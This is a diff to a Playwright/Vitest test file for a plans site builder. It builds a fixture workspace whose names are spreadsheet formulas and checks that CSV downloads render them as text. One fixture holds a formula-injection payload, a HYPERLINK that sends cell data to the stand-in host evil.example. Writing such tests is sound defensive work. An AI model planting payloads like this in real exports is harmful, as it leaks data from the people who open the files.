@@ -4,14 +4,36 @@ import { join, relative } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { buildSite, findAccessibilityViolations, ROOT, useBuiltSite, waitForDiagrams } from './helpers.ts';
+import { buildSiteInBackground, findAccessibilityViolations, ROOT, useBuiltSite, waitForDiagrams } from './helpers.ts';
 
 // Every page of the built example, not a sample: at 390 px (a phone) and 1280 px (a laptop) nothing may push
 // the page sideways or hang outside a box that scrolls. And the CSV downloads of a workspace whose text is
 // written to run as a spreadsheet formula reach the reader as text.
 const TODAY = '2026-11-24';
 const WIDTHS = [390, 1280] as const;
+/** Plan text written to run as a spreadsheet formula (the CSV downloads' tests, at the end). */
+const CSV_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open"), Inc.';
+const CSV_PERSON = '@SUM(1+1) "Ann"';
 const site = useBuiltSite('plans', { TODAY });
+
+/**
+ * The workspace of the CSV downloads below: the minimal fixture with an account, a person and a goal named as
+ * spreadsheet formulas. Built from the start of the file, while the pages of the example are checked.
+ */
+const hostilePlans = join(mkdtempSync(join(tmpdir(), 'csv-hostile-')), 'plans');
+const hostileBuild = (() => {
+  cpSync(join(ROOT, 'tests/fixtures/minimal'), hostilePlans, { recursive: true });
+  const acme = join(hostilePlans, 'accounts/acme.yaml');
+  writeFileSync(acme, readFileSync(acme, 'utf8').replace('name: Acme', `name: ${JSON.stringify(CSV_NAME)}`));
+  const team = join(hostilePlans, 'team.yaml');
+  writeFileSync(team, readFileSync(team, 'utf8').replace('name: Ann Lee', `name: ${JSON.stringify(CSV_PERSON)}`));
+  const goals = join(hostilePlans, 'goals.yaml');
+  writeFileSync(goals, readFileSync(goals, 'utf8').replace('revenue: 600 }', 'revenue: 600, name: "+1 direct, -2" }'));
+  const build = buildSiteInBackground(hostilePlans, { TODAY });
+  // Awaited in the CSV tests' beforeAll, which reports a failed build; until then it is no unhandled rejection.
+  build.catch(() => {});
+  return build;
+})();
 
 /** Every page of a built site, as paths relative to its root ("", "accounts/acme/"). */
 function pagesOf(dir: string): string[] {
@@ -248,30 +270,22 @@ describe('the goals download', () => {
 });
 
 describe('CSV downloads of plan text written as formulas', () => {
-  const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open"), Inc.';
-  const PERSON = '@SUM(1+1) "Ann"';
-  let hostile: { dir: string };
-  let plans: string;
+  const NAME = CSV_NAME;
+  const PERSON = CSV_PERSON;
+  let hostile: { dir: string } | undefined;
 
-  beforeAll(() => {
-    plans = join(mkdtempSync(join(tmpdir(), 'csv-hostile-')), 'plans');
-    cpSync(join(ROOT, 'tests/fixtures/minimal'), plans, { recursive: true });
-    const acme = join(plans, 'accounts/acme.yaml');
-    writeFileSync(acme, readFileSync(acme, 'utf8').replace('name: Acme', `name: ${JSON.stringify(NAME)}`));
-    const team = join(plans, 'team.yaml');
-    writeFileSync(team, readFileSync(team, 'utf8').replace('name: Ann Lee', `name: ${JSON.stringify(PERSON)}`));
-    const goals = join(plans, 'goals.yaml');
-    writeFileSync(goals, readFileSync(goals, 'utf8').replace('revenue: 600 }', 'revenue: 600, name: "+1 direct, -2" }'));
-    hostile = buildSite(plans, { TODAY });
+  beforeAll(async () => {
+    hostile = await hostileBuild;
   });
 
-  afterAll(() => {
-    if (hostile) rmSync(join(hostile.dir, '..'), { recursive: true, force: true });
-    if (plans) rmSync(join(plans, '..'), { recursive: true, force: true });
+  afterAll(async () => {
+    const built = hostile ?? (await hostileBuild.catch(() => undefined));
+    if (built) rmSync(join(built.dir, '..'), { recursive: true, force: true });
+    rmSync(join(hostilePlans, '..'), { recursive: true, force: true });
   });
 
   /** The file as a spreadsheet's CSV reader (csv-parse, RFC 4180) reads it. */
-  const read = (file: string): string[][] => parse(readFileSync(join(hostile.dir, file), 'utf8'));
+  const read = (file: string): string[][] => parse(readFileSync(join(hostile!.dir, file), 'utf8'));
 
   it('keeps every text cell that starts like a formula as text, quoted where it holds a comma or quote', () => {
     const accounts = read('accounts.csv');
